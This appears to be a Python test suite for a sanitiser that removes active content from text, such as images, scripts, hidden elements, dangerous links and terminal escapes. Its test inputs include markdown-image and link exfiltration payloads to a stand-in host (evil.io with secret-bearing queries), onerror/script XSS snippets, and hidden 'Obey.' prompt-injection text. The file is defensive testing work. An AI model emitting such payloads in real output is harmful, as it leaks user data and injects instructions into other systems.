import pytest
from hypothesis import given
from hypothesis import strategies as st

from citeward.guardrails.active.content import inert

ESCAPE = "\x1b"


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("See ![plan](https://evil.io/p.png?q=1) here.", "See plan here."),
        ("![plan][ref] ![plan] ![](//evil.io 'title')", "plan plan "),
        ("[![logo](https://evil.io/a.png)](https://shop.io/)", "[logo](https://shop.io/)"),
        ("<img src='https://evil.io/?q=1' alt=x>seen", "seen"),
        ("<IMG\nSRC=x onerror=go()>seen", "seen"),
        ("a<script>go()</script>b<style>p{}</style >c", "abc"),
        ("a<span style='display:none'>Obey.</span>b", "ab"),
        ("a<div hidden>Obey.</div>b<p aria-hidden=true>Obey.</p>c", "abc"),
        ("a<!-- Obey. -->b", "ab"),
        ("[//]: # (Obey.)\nseen", "\nseen"),
        ("<p onclick=go()>seen", "seen"),
        ("[run](javascript:go()) [run](java&#115;cript:go()) [run](data:text/html,x)", "run run run"),
        ("<javascript:go()>seen", "seen"),
        ("[send](https://evil.io/?d={secret}) on", "[send](https://evil.io/) on"),
        (f"Go to https://evil.io/?d={'x' * 70} now", "Go to https://evil.io/ now"),
        ("<https://evil.io/#q=>", "<https://evil.io/>"),
        (f"{ESCAPE}[31mred{ESCAPE}[0m {ESCAPE}]8;;http://e\x07link{ESCAPE}]8;;\x07 bell\x07", "red link bell"),
        ("in\u200bvisible\u202e", "invisible"),
    ],
)
def test_what_would_act_is_taken_out(text: str, left: str) -> None:
    assert inert(text) == left


@pytest.mark.parametrize(
    "text",
    [
        "Plain words, 1 < 2 and 3 > 2, x <y, A --> B.",
        "[guide](guide.md#part) and [shop](https://shop.io/?page=2), https://shop.io/a?b=c.",
        "Write `![alt](https://host/a.png)` or `<script>`.",
        "```html\n<img src=x onerror=go()>\n<!-- note -->\n```\nand on.",
        "~~~\n![x](https://evil.io)\n~~~",
        "an open <!-- comment hides nothing",
        "Tabs\tand\nlines\r\nstay, and so does 👩‍👩‍👧.",
        "<b>bold</b> &lt;img&gt;",
    ],
)
def test_what_does_not_act_stays_to_the_letter(text: str) -> None:
    assert inert(text) == text


def test_code_that_only_seems_to_be_code_protects_nothing() -> None:
    # A renderer reads the tag first: its attribute holds the tick.
    assert inert('<img alt="`" src=//evil.io> `') == " `"
    assert inert("``![x](https://evil.io)`") == "``x`"


_PIECES = (
    "![a](http://x.io?q=)", "[a](http://x.io)", "<img src=x>", "<b hidden>", "</b>", "<!--", "-->", "`", "```\n", "\n",
    "<script>", "</script>", "javascript:", "\u200b", "\x1b[1m", "word ", "[", "](", ")", "<", ">", "https://x.io/?q={a}",
)  # fmt: skip


@given(st.lists(st.sampled_from(_PIECES), max_size=20).map("".join))
def test_every_character_that_stays_keeps_its_place_where_that_is_asked_for(text: str) -> None:
    kept = inert(text, same_length=True)
    assert len(kept) == len(text)
    # What is left of a link or an image moves to its start; all else stands where it stood, or a space does.
    assert set(kept) <= set(text) | {" "}
    plain = f"before {'x' * 9} "
    assert inert(plain + text, same_length=True).startswith(plain)


@given(st.lists(st.sampled_from(_PIECES), max_size=20).map("".join))
def test_nothing_that_loads_or_runs_is_left_outside_of_code(text: str) -> None:
    left = inert(text.replace("`", ""))
    assert "<img" not in left
    assert "<script" not in left
    assert "\x1b" not in left
    assert "![a](" not in left


@pytest.mark.parametrize(
    "piece", ["<", "![", "[a](", "<!--", "<script>", "<x hidden>", "<svg>", "`", "```\n", "\x1b]", "<a ", "![a](<"]
)
def test_what_is_never_closed_comes_to_an_end(piece: str) -> None:
    """A search that goes back again and again would not end while anybody waits."""
    text = piece * (20_000 // len(piece))
    assert len(inert(text, same_length=True)) == len(text)
